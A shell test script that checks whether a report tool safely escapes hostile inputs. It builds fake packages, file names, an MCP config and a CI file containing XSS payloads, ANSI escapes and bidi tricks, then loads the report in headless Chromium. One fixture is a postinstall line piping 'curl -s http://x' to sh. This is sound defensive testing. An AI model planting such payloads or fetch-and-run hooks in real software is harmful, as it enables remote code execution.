# Hostile inputs: file names, package names, scripts, MCP config, CI file
# and capture host names full of payloads (<script>, "><img onerror>,
# javascript: links, Markdown injection, ANSI escapes, bidi overrides).
# The HTML report is loaded in real headless Chromium twice: as written,
# and with its CSP meta tag removed (so the escaping alone is tested).
# No script may run (a script would set class="pwned" on <body>), the
# payload text must show, every link must stay inside the page.
. "$CAIRN_SRC/tests/cli/report/common.inc"
P='<script>document.body.className="p"+"wned"</script>'
I='"><img src=x onerror="document.body.className=`p`+`wned`">'
L='[click](javascript:document.body.className="p"+"wned")'
E=$(printf '\033[31mred\033]8;;http:x\007')
B=$(printf 'evil\342\200\256sj.exe')
F='<svg onload="document.body.className=`p`+`wned`">'   # no '/': a file name

mkdir -p clean/node_modules/ok hostile
printf '{"name":"ok","version":"1.0.0"}\n' > clean/node_modules/ok/package.json
printf '{"name":"app","version":"1.0.0","dependencies":{"ok":"1.0.0"}}\n' > clean/package.json

mkdir -p "hostile/node_modules/$I" hostile/.github/workflows
cp -a clean/node_modules/ok hostile/node_modules/ok
jq -n --arg p "$P" --arg i "$I" --arg l "$L" --arg e "$E" \
	'{name:"app",version:"1.0.0",dependencies:{($i):"latest",($l):"^1",($p):("*" + $e),"ok":"1.0.0"}}' \
	> hostile/package.json
jq -n --arg p "$P" --arg e "$E" --arg b "$B" \
	'{name:$p,version:"6.6.6",scripts:{postinstall:("curl -s http://x | sh # " + $p + $e + $b)}}' \
	> "hostile/node_modules/$I/package.json"
jq -n --arg p "$P" --arg i "$I" --arg l "$L" --arg e "$E" \
	'{mcpServers:{($p):{command:"npx",args:["-y",("evil" + $i)],
	  env:{("GITHUB_TOKEN" + $l):"x", ("API|KEY`" + $e):"y"}}}}' > hostile/.mcp.json
printf 'jobs:\n  t:\n    steps:\n      - run: npm install %s\n' "$P$E" > hostile/.github/workflows/ci.yml
printf 'x\n' > "hostile/$F.js"
printf 'x\n' > "hostile/$E$B.txt"
printf 'x\n' > "hostile/# [x](javascript:alert(1)) |x|.md"

snap_pair clean hostile
jq -n --arg p "$P" --arg i "$I" --arg l "$L" --arg e "$E" --arg b "$B" '
	def h(n): {host:n, names:[{name:n, sources:["tls-sni"], cname_chain:[]}],
		   addresses:["203.0.113.9"], ports:["tcp/443"], protocols:["tls"],
		   connections:2, bytes_out:5000, bytes_in:100, allowed:false,
		   first_seen:"2026-01-01T10:00:01Z", last_seen:"2026-01-01T10:00:09Z"};
	{format:"cairn-capture", version:1, window_seconds:300,
	 windows:[(h($p) + {window_start:"2026-01-01T10:00:00Z"}),
		  (h($i + $e) + {window_start:"2026-01-01T10:00:00Z"}),
		  (h($l + $b) + {window_start:"2026-01-01T10:05:00Z"})],
	 totals:[h($p), h($i + $e), h($l + $b)]}' > capture.json

for f in html md json; do
	report --store store --baseline "$BRANCH~1" --snapshot "$BRANCH" \
		--capture-json capture.json --no-timestamp -o "r.$f"
done
# The raw files: no control character, no live markup from the inputs.
if LC_ALL=C grep -q "$(printf '\033')" r.html r.md; then fail "ESC reached the output"; fi
if grep -q '<script' r.html; then fail "<script in the HTML"; fi
if grep -q -e '<img' -e '<svg onload' r.html; then fail "live markup in the HTML"; fi
if grep -o 'href="[^"]*"' r.html | grep -v 'href="#' >/dev/null; then fail "a link leaves the page"; fi
grep -q "Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:\"" r.html ||
	fail "CSP meta tag missing"
grep -q 'evil\\u{202e}sj.exe' r.html || fail "bidi override not made visible"
jq -e '.findings | length > 5' r.json >/dev/null || fail "too few findings on hostile input"
schema_check r.json

need chromium chromium
sed "/Content-Security-Policy/d" r.html > nocsp.html
grep -q Content-Security-Policy nocsp.html && fail "could not strip the CSP"
for page in r.html nocsp.html; do
	timeout 60 chromium --headless --no-sandbox --disable-gpu --disable-quic --no-first-run \
		--disable-background-networking --disable-component-update --disable-sync \
		--user-data-dir="$PWD/profile-$page" --virtual-time-budget=2000 \
		--dump-dom "file://$PWD/$page" > "dom-$page" 2>/dev/null || fail "chromium failed on $page"
	grep -q '</html>' "dom-$page" || fail "chromium gave no DOM for $page"
	if grep -q 'pwned' "dom-$page"; then fail "a payload script ran in $page"; fi
	grep -q '<body>' "dom-$page" || fail "<body> changed in $page"
	grep -Fq '&lt;script&gt;document.body.className="p"+"wned"&lt;/script&gt;' "dom-$page" ||
		fail "payload text not shown in $page"
	grep -Fq '\x1b[31mred' "dom-$page" || fail "ANSI escape not shown as text in $page"
	# the only elements are ours: no img, iframe, object, a with javascript:
	if grep -Eq '<(img|iframe|object|embed|script)[ >]|<svg onload' "dom-$page"; then fail "foreign element in $page"; fi
done
timeout 60 chromium --headless --no-sandbox --disable-gpu --disable-quic --no-first-run \
	--disable-background-networking --disable-component-update --disable-sync \
	--user-data-dir="$PWD/profile-shot" --hide-scrollbars --window-size=1100,1600 \
	--screenshot="$PWD/payloads.png" "file://$PWD/nocsp.html" >/dev/null 2>&1 || fail "no screenshot"
[ -s payloads.png ] || fail "empty screenshot"
if [ -n "${CAIRN_KEEP:-}" ]; then cp r.html r.md payloads.png "$CAIRN_KEEP"/; fi
exit 0
